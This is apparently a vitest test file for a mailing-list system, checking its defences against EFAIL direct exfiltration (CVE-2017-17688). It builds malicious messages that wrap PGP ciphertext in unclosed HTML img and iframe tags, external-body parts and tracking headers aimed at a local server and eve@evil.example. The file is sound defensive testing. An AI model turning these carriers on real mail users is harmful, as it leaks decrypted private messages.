/**
 * HTML around ciphertext, to have what is decrypted sent to whoever wrote it (direct exfiltration, EFAIL, CVE-2017-17688): a whole body
 * part is decrypted or nothing, parts are never merged, and no URL is ever fetched. Every place of the tree is in efail.test.ts.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { leaves } from '../../src/mail/message.ts';
import { outbox } from '../delivery/outbox.ts';
import { arrive, CANARY } from '../post/arrive.ts';
import { oneEngine } from '../support/dialects.ts';
import { type House, housing, LISTS } from '../support/house.ts';
import { copyFor, encrypted, head, mailOf, multipart, pgpMime, text, wordsOf } from './attack.ts';

let server: Server;
let url: string;
const asked: string[] = [];
beforeAll(async () => {
  server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
});
afterAll(() => server.close());

oneEngine((engine) => {
  const build = housing();
  let house: House;
  beforeEach(async () => {
    house = await build((await engine.open()).db);
  });

  const secret = (type = 'text/plain') => encrypted(house, `Content-Type: ${type}\r\n\r\nThe ${CANARY} crashes.`, LISTS.security);
  const html = (words: string) => text(words, 'text/html');
  const fetching = () => [
    `OpenPGP: id=0123456789ABCDEF; url=${url}key`,
    `List-Unsubscribe: <${url}unsubscribe>`,
    `Disposition-Notification-To: eve@evil.example`,
    `X-Image-URL: ${url}face.png`,
  ];

  const carriers: [string, () => Promise<string[]>][] = [
    ['between two parts', async () => multipart('mixed', html(`<img src="${url}?`), pgpMime(await secret()), html('">'))],
    [
      'between two parts, as HTML',
      async () => multipart('mixed', html(`<img src="${url}?`), pgpMime(await secret('text/html')), html('">')),
    ],
    ['in multipart/related', async () => multipart('related', html(`<iframe src="${url}">`), pgpMime(await secret()))],
    [
      'beside a part that stands elsewhere',
      async () =>
        multipart('mixed', text('', `message/external-body; access-type=URL; URL="${url}part"`), pgpMime(await secret())),
    ],
  ];

  test.each(carriers)('ciphertext %s: what is decrypted stands alone, and nobody is asked for anything', async (_, carrier) => {
    await arrive(house, mailOf(...head('eve@evil.example', ...fetching()), ...(await carrier())), { sender: 'eve@evil.example' });
    const sent = await outbox(house).drain();
    const [lena] = house.team;
    const copy = await copyFor(house, sent, lena);
    const parts = wordsOf(copy);
    // A page is there twice: as its text, and as a file.
    const secrets = parts.filter((part) => part.includes(CANARY)).map((part) => part.trim());
    expect([...new Set(secrets)]).toEqual([`The ${CANARY} crashes.`]);
    const pages = leaves(copy).filter(({ mediaType, body }) => mediaType === 'text/html' && !Buffer.from(body).includes(CANARY));
    expect(pages).toEqual([]);
    for (const { raw } of sent) expect(raw.toString()).not.toContain(CANARY);
    expect(asked).toEqual([]);
  });

  test('HTML that was encrypted itself is carried as it is, in a file, and not looked up either', async () => {
    const words = `Content-Type: text/html\r\n\r\n<img src="${url}">${CANARY}`;
    await arrive(house, mailOf(...head('rita@example.org'), ...pgpMime(await encrypted(house, words, LISTS.security))));
    const [lena] = house.team;
    expect(wordsOf(await copyFor(house, await outbox(house).drain(), lena)).join('\n')).toContain(`<img src="${url}">${CANARY}`);
    expect(asked).toEqual([]);
  });
});
